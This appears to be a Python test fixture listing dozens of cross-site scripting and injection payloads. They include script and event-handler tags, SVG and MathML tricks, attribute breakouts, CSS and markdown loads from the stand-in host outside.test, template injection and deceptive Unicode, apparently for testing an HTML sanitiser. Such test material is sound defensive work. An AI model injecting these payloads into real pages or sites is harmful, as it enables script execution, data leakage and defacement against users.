"""Texts that would run, load or restyle something if the page let them.

Each of them sets ``window.taken``, asks ``outside.test``, hides the page, or breaks out of where
it was put. :data:`EVERYTHING` is all of them in one.
"""

from __future__ import annotations

HOSTILE = (
    # HTML that runs or loads
    "<script>window.taken = 1</script>",
    "<ScRiPt/src=//outside.test/x.js></sCrIpT>",
    "<img src=http://outside.test/a.png onerror='window.taken = 1'>",
    "<img src=x onerror=window.taken=1 //",
    '<img/src="x"/onerror="window.taken=1"/>',
    "<svg onload='window.taken=1'><style>* { display: none }</style></svg>",
    "<svg><script xlink:href=http://outside.test/x.js></script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=window.taken=1>'/></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=window.taken=1></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.taken = 1</script>'></iframe>",
    "<iframe src=http://outside.test></iframe>",
    "<object data=http://outside.test/o></object><embed src=http://outside.test/e>",
    "<video src=http://outside.test/v onloadstart=window.taken=1 autoplay></video>",
    "<audio><source src=http://outside.test/s onerror=window.taken=1></audio>",
    "<link rel=stylesheet href=http://outside.test/s.css><link rel=prefetch href=//outside.test/p>",
    "<meta http-equiv=refresh content='0; url=http://outside.test/'>",
    "<base href=http://outside.test/>",
    "<form action=http://outside.test><button autofocus>Send</button></form>",
    "<input autofocus onfocus=window.taken=1><select autofocus onfocus=window.taken=1></select>",
    "<details open ontoggle=window.taken=1><summary>x</summary></details>",
    "<a href=javascript:window.taken=1 id=question>click</a>",
    "<button data-do=delete value=news.txt>Remove</button><button data-do=clear>x</button>",
    # HTML that restyles, or breaks out
    "<style>body { background: url(http://outside.test/bg) ; display: none }</style>",
    "<style>@import 'http://outside.test/i.css'; * { display: none !important }</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(//outside.test/d)'>x</div>",
    '"><script>window.taken=1</script>',
    "' onfocus='window.taken=1' autofocus='",
    '" onmouseover="window.taken=1" style="position:fixed;inset:0" data-x="',
    "` onmouseover=`window.taken=1`",
    "</mark></blockquote></section><iframe src=http://outside.test></iframe>",
    "</textarea></title></style></noscript></template></script><script>window.taken=1</script>",
    "--><!--><script>window.taken=1</script><![CDATA[ ]]>",
    # Markdown and mathematics
    "![picture](http://outside.test/b.png)",
    "[link](javascript:window.taken=1) <javascript:window.taken=1>",
    "[ref]: http://outside.test/c.png\n![x][ref]",
    "[![x](http://outside.test/n.png)](http://outside.test 'onclick=window.taken=1')",
    "$$\\href{javascript:window.taken=1}{y} \\includegraphics{http://outside.test/t.png}$$",
    "```html\n<img src=x onerror=window.taken=1>\n```\n| <img src=x onerror=window.taken=1> |\n|-|",
    # Entities, templates and JSON
    "&lt;script&gt; &#60;img src=x onerror=window.taken=1&#62; &#x3C;svg/onload=taken=1&#x3E;",
    "${window.taken = 1} {{constructor.constructor('window.taken=1')()}} `${window.taken = 1}`",
    "{{value}} {% raw %} <%= window.taken = 1 %> #{window.taken = 1} %s %(x)s {0}",
    '"}]}</script><script>window.taken=1</script>{"path": "http://outside.test/", "meta": {}}',
    "\\u003cimg src=x onerror=window.taken=1\\u003e \\x3cscript\\x3etaken=1\\x3c/script\\x3e",
    # Text that is not what it looks like
    "\u202egnp.exe\u2066 \x00\x1b[31m zero\u200bwidth \U000e0041",
    "<\u200bscript>window.taken=1</\u200bscript> \uff1cscript\uff1etaken=1\uff1c/script\uff1e",
    "\u2028window.taken=1\u2029 \ufeff\u00ad\u0301\u0301\u0301 \u061c\u200f\u202b\u0627\u202c",
    "javascript:window.taken=1//http://outside.test/ data:text/html,<script>taken=1</script>",
)
EVERYTHING = " ".join(HOSTILE)
